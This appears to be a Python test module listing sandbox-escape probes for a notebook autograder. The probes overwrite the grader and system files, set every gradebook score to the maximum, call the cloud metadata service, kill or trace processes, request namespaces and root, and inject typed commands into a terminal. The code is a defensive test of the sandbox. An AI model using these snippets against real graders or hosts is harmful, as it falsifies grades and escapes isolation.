"""Files, gradebook, network, other submissions, the template: changing what is not one's own."""

from tests.attack.table import Attack

ATTACKS = {
    "files-written": Attack(
        "Files are laid in every folder that a host might have, start-up files among them.",
        """
import os, pathlib
home = os.path.expanduser("~")
for folder in ("/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/root", "/home", home, "/etc/cron.d", "/etc",
               "/usr/local/bin", "/usr/lib/python3/dist-packages", "/dev", "/run/kernel", "/run/kernels", "/mnt",
               REPOSITORY, COURSE, COURSE + "/classroom", HONEST):
    for name in (MARK, ".bashrc-" + MARK):
        tried(pathlib.Path(folder, name).write_text, MARK)
""",
    ),
    "grader-rewritten": Attack(
        "The grader, the library, Python's start-up and the configuration are overwritten.",
        """
import pathlib, sys, numpy, tandem
packages = pathlib.Path(numpy.__file__).parents[1]
for path in (f"{REPOSITORY}/autograder/judge.py", tandem.__file__, f"{COURSE}/nbgrader_config.py",
             packages / "sitecustomize.py", packages / f"{MARK}.pth", sys.executable, "/etc/ld.so.preload",
             f"{REPOSITORY}/tests/autograder/toy/labs/toy.py", f"{HONEST}/toy.ipynb", "/etc/passwd"):
    tried(pathlib.Path(path).open, "r+b")
    tried(pathlib.Path(path).write_text, f"# {MARK}")
    tried(pathlib.Path(path).unlink)
    tried(pathlib.Path(path).chmod, 0o777)
""",
    ),
    "gradebook-by-sql": Attack(
        "The gradebook is opened and every score set to the most that there is.",
        """
import sqlite3
for path in (f"{COURSE}/classroom/gradebook.db", f"{COURSE}/gradebook.db", f"/proc/1/root{COURSE}/classroom/gradebook.db"):
    def change():
        with sqlite3.connect(path) as book:
            book.execute("update grade set auto_score = 2, manual_score = 2")
    tried(change)
""",
    ),
    "gradebook-by-nbgrader": Attack(
        "The interface of nbgrader, which is installed, is asked to give points.",
        """
def change():
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{COURSE}/classroom/gradebook.db") as book:
        for submission in book.assignment_submissions("toy-numpy"):
            for notebook in submission.notebooks:
                for grade in notebook.grades: grade.manual_score = 2
        book.db.commit()
tried(change)
""",
    ),
    "network-out": Attack(
        "The machine's own services, other machines and the cloud's metadata are called.",
        """
import socket, urllib.request
for address in (("127.0.0.1", PORT), ("localhost", PORT), ("0.0.0.0", PORT), ("10.0.0.1", 80), ("169.254.169.254", 80), ("1.1.1.1", 53)):
    tried(socket.create_connection, address, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams: tried(datagrams.sendto, MARK.encode(), address)
with socket.socket(socket.AF_INET6) as six: tried(six.connect, ("::1", PORT))
tried(socket.getaddrinfo, "example.org", 80)
tried(urllib.request.urlopen, f"http://127.0.0.1:{PORT}/", timeout=1)
""",
    ),
    "network-odd": Attack(
        "Sockets of other families, and a server that a neighbour could call, are opened.",
        """
import socket
for family in (socket.AF_PACKET, socket.AF_NETLINK, socket.AF_VSOCK, 38, 31, 40):
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM, socket.SOCK_STREAM): tried(socket.socket, family, kind)
server = tried(socket.create_server, ("0.0.0.0", 45678))
""",
    ),
    "local-sockets": Attack(
        "Local sockets of the host are called: abstract ones, /tmp, D-Bus, Docker, X11.",
        """
import socket
for path in ("\\0" + MARK, f"/tmp/{MARK}.socket", "/run/docker.sock", "/run/dbus/system_bus_socket",
             "/tmp/.X11-unix/X0", "\\0/tmp/.X11-unix/X0", "/run/systemd/private"):
    with socket.socket(socket.AF_UNIX) as local: tried(local.connect, path)
""",
    ),
    "everyone-killed": Attack(
        "Every process that can be named gets a signal that kills, stops or slows it.",
        """
import os, resource, signal
me = os.getpid()
for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for pid in (1, os.getppid(), *range(3, 40_000)):
        if pid != me:
            try: os.kill(pid, number); print("sent", number, pid)
            except OSError: continue
tried(os.setpriority, os.PRIO_USER, os.getuid(), 19)
tried(resource.prlimit, 1, resource.RLIMIT_CPU, (1, 1))
""",
    ),
    "group-killed": Attack(
        "The kernel's group, session and everything that its user owns is killed.",
        "import os, signal\ndef double(x):\n    os.killpg(0, signal.SIGKILL)\n    os.kill(-1, signal.SIGKILL)\n",
    ),
    "watchdog-starved": Attack(
        "Its first process, which watches over its memory, is to run only when nothing else does.",
        """
import ctypes, os, resource
libc = ctypes.CDLL(None)
for call in ((os.sched_setscheduler, 1, os.SCHED_IDLE, os.sched_param(0)), (os.sched_setscheduler, 1, os.SCHED_BATCH, os.sched_param(0)),
             (os.sched_setparam, 1, os.sched_param(0)), (os.sched_setaffinity, 1, {max(os.sched_getaffinity(0))}),
             (os.setpriority, os.PRIO_PROCESS, 1, 19), (os.setpriority, os.PRIO_USER, os.getuid(), 19),
             (resource.prlimit, 1, resource.RLIMIT_NOFILE, (0, 0))):
    if not isinstance(tried(*call), str): loot(call[0].__name__)
for number, *rest in ((314, 1, bytes([48, 0, 0, 0, 5]) + bytes(43), 0), (251, 1, 1, 3 << 13), (251, 3, os.getuid(), 3 << 13)):
    if libc.syscall(number, *rest) == 0: loot(number)
tried(lambda: open("/proc/1/autogroup", "w").write("19"))
""",
    ),
    "template-traced": Attack(
        "Its first process, and so the way to the template, is traced and written to.",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid()):
    for call in (("ptrace", 16, pid, 0, 0), ("syscall", 310, pid, 0, 0, 0, 0, 0), ("syscall", 311, pid, 0, 0, 0, 0, 0),
                 ("syscall", 434, pid, 0), ("syscall", 438, 3, 3, 0), ("syscall", 312, pid, pid, 0, 0, 0)):
        print(call, getattr(libc, call[0])(*call[1:]), os.strerror(ctypes.get_errno()))
    tried(lambda: open(f"/proc/{pid}/mem", "r+b"))
    tried(lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"))
""",
    ),
    "note-for-a-neighbour": Attack(
        "Answers are left where a neighbour's kernel might find them: files, IPC, sockets.",
        """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
for folder in ("/tmp", "/dev/shm", "/run/kernels", "/var/tmp"): tried(lambda: open(f"{folder}/{MARK}-note", "w").write(MARK))
for call in (("shmget", 0x7a, 1000, 0o1666), ("semget", 0x7a, 1, 0o1666), ("msgget", 0x7a, 0o1666), ("mq_open", b"/note", 66, 0o666, 0)):
    print(call, getattr(libc, call[0])(*call[1:]), os.strerror(ctypes.get_errno()))
server = socket.socket(socket.AF_UNIX)
tried(server.bind, "\\0note-for-a-neighbour")
tried(server.listen)
""",
    ),
    "note-from-a-neighbour": Attack(
        "A note that an earlier kernel left is looked for.",
        """
import ctypes, glob, socket
for path in glob.glob("/tmp/*note*") + glob.glob("/dev/shm/*") + glob.glob("/var/tmp/*"): loot(path)
if ctypes.CDLL(None).shmget(0x7a, 1000, 0) != -1: loot()
with socket.socket(socket.AF_UNIX) as client:
    if tried(client.connect, "\\0note-for-a-neighbour") is None: loot()
""",
    ),
    "sockets-replaced": Attack(
        "The sockets on which the grader listens are replaced by one's own.",
        """
import glob, os, socket
for path in glob.glob("/run/kernel/*") or ["/run/kernel/k-1"]:
    tried(os.unlink, path); tried(os.rename, path, path + "x"); tried(os.chmod, path, 0)
    with socket.socket(socket.AF_UNIX) as own: tried(own.bind, path)
    with socket.socket(socket.AF_UNIX) as own: tried(own.connect, path)
""",
    ),
    "namespaces": Attack(
        "New namespaces, mounts, another root, devices and other rights are asked for.",
        """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for call in (("unshare", 0x10000000), ("unshare", 0x20000), ("mount", b"none", b"/tmp", b"tmpfs", 0, None),
             ("umount2", b"/tmp", 2), ("umount2", b"/run/kernels", 2), ("chroot", b"/tmp"), ("pivot_root", b"/", b"/tmp"),
             ("setuid", 0), ("setgid", 0), ("setns", 0, 0), ("sethostname", MARK.encode(), 9), ("personality", 0x40000),
             ("syscall", 425, 8, 0), ("syscall", 321, 0, 0, 0), ("syscall", 323, 0), ("syscall", 435, 0, 0), ("syscall", 250, 1, 0)):
    print(call, getattr(libc, call[0])(*call[1:]), os.strerror(ctypes.get_errno()))
for device in (os.makedev(1, 1), os.makedev(8, 0), os.makedev(259, 0)): tried(os.mknod, f"/tmp/{device}", 0o60666, device)
for program in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-a"], ["bwrap", "--unshare-user", "--bind", "/", "/", "id"]):
    tried(lambda: subprocess.run(program, capture_output=True, timeout=5, stdin=subprocess.DEVNULL))
""",
    ),
    "settings-changed": Attack(
        "Settings of the Linux kernel are written: namespaces, core dumps, clock, sysctl.",
        """
import time
for path in ("/proc/sys/user/max_user_namespaces", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
             "/proc/sysrq-trigger", "/proc/sys/vm/overcommit_memory", "/sys/kernel/uevent_helper", "/proc/self/uid_map",
             "/sys/fs/cgroup/cgroup.procs", "/proc/self/loginuid"):
    tried(lambda: open(path, "w").write("1"))
tried(time.clock_settime, time.CLOCK_REALTIME, 0)
""",
    ),
    "terminal-typed-into": Attack(
        "Text is typed into the grader's terminal, and its console is taken.",
        """
import fcntl, os
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx"):
    def typed():
        handle = os.open(path, os.O_RDWR)
        for letter in "touch /tmp/" + MARK + "-typed\\n": fcntl.ioctl(handle, 0x5412, letter.encode())
    tried(typed)
""",
    ),
}
